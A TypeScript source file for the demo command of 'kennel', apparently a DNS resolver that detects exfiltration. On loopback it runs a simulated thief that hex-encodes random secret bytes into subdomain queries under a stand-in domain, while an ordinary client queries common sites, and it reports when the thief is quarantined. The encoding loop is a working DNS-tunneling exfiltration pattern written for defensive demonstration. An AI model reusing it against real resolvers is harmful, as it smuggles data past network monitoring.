/**
 * `kennel demo`: the product in half a minute, without a network. A real resolver in enforce mode, an authority on loopback, a program
 * that smuggles a file out in names, and an ordinary program beside it. Everything printed was measured on that authority.
 */
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Config } from '../config/config.ts';
import { parseConfig } from '../config/parse-config.ts';
import { configErrorText } from '../config/problems.ts';
import { startKennel } from '../kennel.ts';
import { createLog } from '../telemetry/log.ts';
import { version } from '../version.ts';
import { type DemoAuthority, startDemoAuthority } from './demo-authority.ts';
import { ask, type DemoAnswer } from './demo-client.ts';
import { parseVerb, type VerbIo, wrongUsage } from './verb.ts';

const THIEF = '127.0.0.66';
const NEIGHBOUR = '127.0.0.7';
const THIEF_DOMAIN = 'collab-notes.example';
const SECRET_OCTETS = 1_024;
const OCTETS_PER_QUERY = 24;

/** What an ordinary build asks for. */
const ORDINARY_NAMES = [
  'github.com',
  'api.github.com',
  'objects.githubusercontent.com',
  'nodejs.org',
  'www.python.org',
  'docs.python.org',
  'www.debian.org',
  'wiki.debian.org',
  'pkg.go.dev',
  'www.rust-lang.org',
  'doc.rust-lang.org',
  'hub.docker.com',
  'auth.docker.io',
  'production.cloudflare.docker.com',
  'www.wikipedia.org',
  'en.wikipedia.org',
  'time.cloudflare.com',
  'www.example.com',
];

interface Step {
  readonly query: number;
  readonly name: string;
  readonly score: number;
  readonly rcode: string;
  /** Octets of the secret that have reached the thief's nameserver. */
  readonly octetsOut: number;
}

interface DemoResult {
  readonly secretOctets: number;
  readonly octetsOut: number;
  readonly theft: readonly Step[];
  readonly quarantine: { readonly id: string; readonly atQuery: number; readonly score: number; readonly leakBits: number } | null;
  readonly explanation: string | null;
  readonly neighbour: { readonly asked: number; readonly answered: number };
}

export const usage = `kennel demo [--json]

Shows a theft over DNS being stopped, on this machine alone.`;

/** 0 when the theft was stopped and the neighbour was not disturbed, 1 when not. */
export async function run(args: readonly string[], io: VerbIo): Promise<number> {
  const parsed = parseVerb(args, { json: { type: 'boolean', default: false } });
  if (parsed.kind === 'wrong') return wrongUsage(io, usage, parsed.message);
  const { json } = parsed.values;
  const folder = await mkdtemp(join(tmpdir(), 'kennel-demo-'));
  const authority = await startDemoAuthority();
  try {
    const result = await play(folder, authority, json ? () => undefined : (line) => io.stdout.write(`${line}\n`));
    if (typeof result === 'string') {
      io.stderr.write(`${result}\n`);
      return 3;
    }
    if (json) io.stdout.write(`${JSON.stringify(result, null, 2)}\n`);
    return result.quarantine !== null && result.neighbour.answered === result.neighbour.asked ? 0 : 1;
  } finally {
    await authority.close();
    await rm(folder, { recursive: true, force: true });
  }
}

async function play(folder: string, authority: DemoAuthority, say: (line: string) => void): Promise<DemoResult | string> {
  const parsed = parseConfig(configText(folder, authority.port), 'demo.yaml', { resolvConf: null, stateFolder: folder });
  if (!parsed.ok) throw new Error(`the demo's own config is wrong: ${parsed.errors.map(configErrorText).join('; ')}`);
  // Any free port: the demo must run beside a Kennel that is in use.
  const config: Config = { ...parsed.config, listen: { ...parsed.config.listen, dns: [{ address: '127.0.0.1', port: 0 }] } };
  const log = createLog({ level: 'warn', names: true, readable: true });
  const started = await startKennel(config, { version: version(), log: log.log, logDropped: log.dropped });
  if (started.kind === 'failed') return started.messages.join('\n');
  const { kennel } = started;
  const server = kennel.dns[0];
  if (server === undefined) throw new Error('the demo listens nowhere');

  try {
    say(`A resolver in enforce mode on ${server.address}:${server.port}, and a nameserver for every domain behind it.`);
    say(
      `${THIEF} holds a secret of ${SECRET_OCTETS} octets and writes it, ${OCTETS_PER_QUERY} octets a query in hex, into names below ${THIEF_DOMAIN}.`,
    );
    say(`${NEIGHBOUR} builds software.\n`);
    say('query  asked for                                                    score  answer    secret octets out');

    const secret = randomBytes(SECRET_OCTETS).toString('hex');
    const theft: Step[] = [];
    let quarantine: DemoResult['quarantine'] = null;
    let explanation: string | null = null;
    const neighbour = { asked: 0, answered: 0 };

    for (let at = 0, query = 1; at < secret.length; at += OCTETS_PER_QUERY * 2, query++) {
      const name = `${secret.slice(at, at + OCTETS_PER_QUERY * 2)}.${query}.${THIEF_DOMAIN}`;
      const answer = await ask(THIEF, server, name);
      const step: Step = {
        query,
        name,
        score: kennel.pipeline.sessions.peek(THIEF)?.score ?? 0,
        rcode: answer.rcode,
        octetsOut: octetsOut(authority, secret),
      };
      theft.push(step);
      const record = kennel.quarantines.list().find((quarantined) => quarantined.session === THIEF) ?? null;
      const crossed = quarantine === null && record !== null;
      if (crossed) {
        quarantine = { id: record.id, atQuery: query, score: record.score, leakBits: record.leakBits };
        explanation = answer.explanation;
      }
      if ((query <= 12 && quarantine === null) || crossed) say(line(step));
      if (crossed) say(`\n  ${THIEF} is quarantined: ${record.id}. It was told:\n  "${answer.explanation ?? ''}"\n`);

      await askAsNeighbour(server, query, neighbour);
    }

    say(
      `After ${theft.length} queries: ${octetsOut(authority, secret)} of ${SECRET_OCTETS} octets of the secret reached the thief's nameserver.`,
    );
    say(`${NEIGHBOUR} asked ${neighbour.asked} times meanwhile and was answered ${neighbour.answered} times.`);
    return { secretOctets: SECRET_OCTETS, octetsOut: octetsOut(authority, secret), theft, quarantine, explanation, neighbour };
  } finally {
    await kennel.close(0);
  }
}

async function askAsNeighbour(
  server: { address: string; port: number },
  turn: number,
  count: { asked: number; answered: number },
): Promise<void> {
  const name = ORDINARY_NAMES[(turn - 1) % ORDINARY_NAMES.length];
  if (name === undefined) return;
  const answer: DemoAnswer = await ask(NEIGHBOUR, server, name);
  count.asked += 1;
  if (answer.rcode === 'NOERROR') count.answered += 1;
}

/** Counted where it matters: on the nameserver, by the pieces of the secret found in the names it was asked. */
function octetsOut(authority: DemoAuthority, secret: string): number {
  let octets = 0;
  for (let at = 0; at < secret.length; at += OCTETS_PER_QUERY * 2) {
    const piece = secret.slice(at, at + OCTETS_PER_QUERY * 2);
    if (authority.asked.some((name) => name.startsWith(piece))) octets += piece.length / 2;
  }
  return octets;
}

function line(step: Step): string {
  const name = step.name.length > 58 ? `${step.name.slice(0, 24)}…${step.name.slice(-33)}` : step.name;
  return `${String(step.query).padStart(5)}  ${name.padEnd(58)}  ${step.score.toFixed(1).padStart(6)}  ${step.rcode.padEnd(8)}  ${String(step.octetsOut).padStart(6)}`;
}

function configText(folder: string, upstreamPort: number): string {
  return `
mode: enforce
state: ${folder}
upstreams: ["udp://127.0.0.1:${upstreamPort}"]
contact: security@example.com
reputation: off
policies:
  - { name: agents, match: {}, preset: agent, default: allow }
`;
}
